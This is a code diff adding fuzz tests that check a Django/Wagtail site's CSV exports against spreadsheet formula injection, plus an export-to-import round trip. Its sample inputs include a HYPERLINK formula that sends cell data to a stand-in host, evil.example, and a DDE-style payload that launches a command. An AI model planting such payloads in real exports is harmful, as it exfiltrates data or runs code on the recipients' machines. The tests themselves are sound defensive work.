@@ -9,6 +9,10 @@ pagination. The answer is 200 or 400 (429 for a rate limit, a local 302 after a
 successful POST), HTML from the public is escaped wherever it is shown, and a
 refused submission writes nothing. A description full of XSS payloads, sent
 through the public form and approved by an editor, is published as inert text.
+Every CSV the platform writes (the admin listing exports, Wagtail's reports,
+the report figures, the public inventory export) holds no cell a spreadsheet
+would run as a formula, whatever text its records carry, and the inventory's
+CSV reads back into the import exactly.
 
 The number of generated inputs per property is in ``BUDGET`` (its sum is
 ``TOTAL_GENERATED_INPUTS``); hand-picked edge cases (``@example``) run on top and
@@ -26,7 +30,7 @@ from django.core.cache import cache
 from django.test import Client, override_settings
 from django.urls import reverse
 
-from wagtail.models import Revision, TaskState, WorkflowState
+from wagtail.models import Page, Revision, TaskState, WorkflowState
 
 import pytest
 from bs4 import BeautifulSoup
@@ -36,7 +40,8 @@ from hypothesis import strategies as st
 from action_lines.models import MeetingRegistration, TeamMembershipRequest
 from home.models import StakeholderOrganisation
 from home.roles import INVENTORY_EDITORS
-from inventory.models import EntryFacetValue, InventoryEntry
+from inventory.importing import RowValidator, read_rows
+from inventory.models import AnnualContribution, EntryFacetValue, InventoryEntry
 from inventory.search import (
     MAX_PAGE_SIZE,
     MAX_QUERY_LENGTH,
@@ -46,10 +51,19 @@ from inventory.search import (
     InventoryQuery,
     clean_text,
 )
+from reporting.models import ReportPage
 from search.backends import default_backend
-from tests.conftest import cluster_settings
+from tests.conftest import cluster_settings, publish
 from tests.factories import UserFactory
 from tests.inventory.conftest import InventoryEntryFactory
+from tests.reporting.factories import ReportIndexPageFactory, ReportPageFactory
+from tests.spreadsheets import (
+    FORMULA_PIECES,
+    assert_no_formula,
+    exported_values,
+)
+from tests.spreadsheets import body as csv_body
+from tests.spreadsheets import rows as csv_rows
 
 pytestmark = pytest.mark.django_db
 
@@ -1143,6 +1157,221 @@ def test_entry_page_for_any_number(site, client, pk):
     if response.status_code == 200:
         assert InventoryEntry.objects.filter(pk=pk, live=True).exists()
         assert_safe_html(response)
+
+
+# --- CSV files ----------------------------------------------------------------------
+
+# Formulas, where a cell starts for any reader, behind blanks, quotes and
+# apostrophes; capped for the shortest column that holds them (PostgreSQL stores
+# no NUL).
+formula_payloads = st.one_of(
+    st.lists(st.sampled_from(FORMULA_PIECES), min_size=1, max_size=12).map("".join),
+    st.lists(
+        st.one_of(st.sampled_from(FORMULA_PIECES), short_nasty_text),
+        min_size=1,
+        max_size=4,
+    ).map("".join),
+).map(lambda text: text.replace("\x00", "")[:200])
+
+
+def report_figures(text):
+    """Figures as the assembly stores them, ``text`` in every label."""
+    row = {"label": text, "count": 3, "link": "/inventory/?q=x"}
+    return {
+        "totals": {"entries": 3},
+        "breakdowns": [{"facet": text, "rows": [row]}],
+        "top_countries": [row],
+        "teams": [{"team": text, "contributed": True}],
+    }
+
+
+@pytest.fixture
+def admin_client(site):
+    client = Client()
+    client.force_login(UserFactory(username="fuzz-admin", is_superuser=True))
+    return client
+
+
+@pytest.fixture
+def csv_writers(site):
+    """Every CSV the platform writes, each with one record that a payload is
+    written into: name → (store(payload), URL, query)."""
+    join = TeamMembershipRequest.objects.create(
+        team=site.c5_team,
+        organisation_name="x",
+        person_name="x",
+        email="fuzz.join@example.org",
+        stakeholder_type="civil-society",
+        country="CHE",
+    )
+    registration = MeetingRegistration.objects.create(
+        meeting=site.c5_meeting,
+        name="x",
+        email="fuzz.registration@example.org",
+        organisation="x",
+        stakeholder_type="government",
+        country="KEN",
+        attendance="in-person",
+    )
+    entry = InventoryEntry.objects.filter(live=True).order_by("pk").first()
+    contribution = AnnualContribution.objects.create(
+        team=site.c5_team, year=2025, narrative="x"
+    )
+    organisation = StakeholderOrganisation.objects.create(
+        name="Fuzz organisation", stakeholder_type="other"
+    )
+    index = publish(ReportIndexPageFactory(parent=site.home))
+    report = publish(ReportPageFactory(parent=index))
+
+    def store(model, pk, **values):
+        return lambda text: model.objects.filter(pk=pk).update(
+            **{name: text[:length] for name, length in values.items()}
+        )
+
+    export = {"export": "csv"}
+    return {
+        "join requests": (
+            store(
+                TeamMembershipRequest, join.pk, organisation_name=255, person_name=200
+            ),
+            reverse("action_lines_teammembershiprequest_modeladmin_index"),
+            export,
+        ),
+        "meeting registrations": (
+            store(MeetingRegistration, registration.pk, name=200, organisation=255),
+            reverse("action_lines_meetingregistration_modeladmin_index"),
+            export,
+        ),
+        "inventory entries": (
+            store(InventoryEntry, entry.pk, title=255, summary=600),
+            reverse("wagtailsnippets_inventory_inventoryentry:list"),
+            export,
+        ),
+        "annual contributions": (
+            store(AnnualContribution, contribution.pk, narrative=600),
+            reverse("annual_contributions:index"),
+            export,
+        ),
+        "organisations": (
+            store(StakeholderOrganisation, organisation.pk, name=255, acronym=40),
+            reverse("wagtailsnippets_home_stakeholderorganisation:list"),
+            export,
+        ),
+        "aging pages": (
+            store(Page, site.c5_modalities.pk, title=255, draft_title=255),
+            reverse("wagtailadmin_reports:aging_pages"),
+            export,
+        ),
+        "translations to do": (
+            store(Page, site.c2.pk, title=255, draft_title=255),
+            "/admin/reports/translation-status/",
+            export,
+        ),
+        "report figures": (
+            lambda text: ReportPage.objects.filter(pk=report.pk).update(
+                figures=report_figures(text)
+            ),
+            report.url + "figures/csv/",
+            {},
+        ),
+    }
+
+
+CSV_WRITERS = [
+    "join requests",
+    "meeting registrations",
+    "inventory entries",
+    "annual contributions",
+    "organisations",
+    "aging pages",
+    "translations to do",
+    "report figures",
+]
+FORMULA_EXAMPLES = [
+    'Ministry;=HYPERLINK("http://evil.example/?d="&A1)',
+    "'=kept as typed",
+    " \t\"@SUM(1+1)*cmd|' /C calc'!A0\"",
+]
+
+
+@fuzz(80)
+@given(writer=st.sampled_from(CSV_WRITERS), payload=formula_payloads)
+@example(writer="join requests", payload=FORMULA_EXAMPLES[0])
+@example(writer="meeting registrations", payload=FORMULA_EXAMPLES[1])
+@example(writer="inventory entries", payload=FORMULA_EXAMPLES[2])
+@example(writer="annual contributions", payload=FORMULA_EXAMPLES[0])
+@example(writer="organisations", payload=FORMULA_EXAMPLES[1])
+@example(writer="aging pages", payload=FORMULA_EXAMPLES[2])
+@example(writer="translations to do", payload=FORMULA_EXAMPLES[0])
+@example(writer="report figures", payload=FORMULA_EXAMPLES[1])
+def test_every_csv_writer_guards_any_payload(
+    csv_writers, admin_client, writer, payload
+):
+    """Downloaded by an administrator (the report figures by anyone): no cell of
+    the file runs as a formula however a spreadsheet splits it, and the payload
+    comes back exactly once the guard is taken off."""
+    store, url, query = csv_writers[writer]
+    store(payload)
+    response = answered(admin_client.get(url, query))
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    text = csv_body(response)
+    assert_no_formula(text)
+    if payload:
+        assert payload in exported_values(text)
+
+
+@pytest.fixture
+def exported_entry(site):
+    """A published entry with an organisation, as the public export lists it."""
+    entry = InventoryEntry.objects.filter(live=True).order_by("pk").first()
+    organisation = StakeholderOrganisation.objects.create(
+        name="Exported organisation", stakeholder_type="government"
+    )
+    InventoryEntry.objects.filter(pk=entry.pk).update(organisation=organisation)
+    return entry, organisation
+
+
+def imported_text(text):
+    """What an editor can store: the import takes values stripped."""
+    return text.strip()
+
+
+@fuzz(40)
+@given(title=formula_payloads, summary=formula_payloads, organisation=formula_payloads)
+@example(
+    title="Schools;=HYPERLINK(1)", summary="'=already quoted", organisation=" @SUM(1)"
+)
+@example(title="''-1", summary="x\r\n=1\t-2", organisation='"=1"')
+def test_inventory_csv_reads_back_into_the_import_exactly(
+    exported_entry, client, tmp_path, title, summary, organisation
+):
+    """/inventory/export.csv holds no formula, and the import reads each text
+    of it back exactly as it was stored."""
+    entry, holder = exported_entry
+    stored = {
+        "title": imported_text(title),
+        "summary": imported_text(summary),
+        "title_fr": imported_text(summary[:255]),
+    }
+    InventoryEntry.objects.filter(pk=entry.pk).update(**stored)
+    StakeholderOrganisation.objects.filter(pk=holder.pk).update(
+        name=imported_text(organisation)
+    )
+    cache.clear()  # the export's rate limit would count every example
+    response = answered(client.get("/inventory/export.csv"))
+    assert response.status_code == 200
+    text = csv_body(response)
+    assert_no_formula(text)
+    path = tmp_path / "export.csv"
+    path.write_bytes(text.encode("utf-8"))
+    (line, row), *_others = [
+        (line, row) for line, row in read_rows(path) if row["id"] == str(entry.pk)
+    ]
+    data, _errors = RowValidator().clean(line, row)
+    assert {name: data[name] for name in stored} == stored
+    assert data["organisation"] == imported_text(organisation)
+    assert len(csv_rows(text)) == 1 + InventoryEntry.objects.filter(live=True).count()
 
 
 # --- Public pages with any query ------------------------------------------------
